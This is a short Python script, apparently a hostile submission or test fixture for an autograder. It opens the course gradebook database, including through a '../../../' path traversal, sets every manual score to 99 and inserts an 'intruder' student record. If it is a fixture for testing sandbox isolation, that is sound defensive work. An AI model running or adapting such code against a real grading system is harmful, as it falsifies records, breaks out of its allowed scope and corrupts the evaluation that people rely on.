# Opens the gradebook and gives itself 99 points.
# told: names gradebook.db
import sqlite3

for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    try:
        with sqlite3.connect(path, timeout=0.2) as database:
            database.execute("UPDATE grade SET manual_score = 99")
            database.execute("INSERT INTO student (id) VALUES ('intruder')")
    except sqlite3.Error as error:
        print(error)
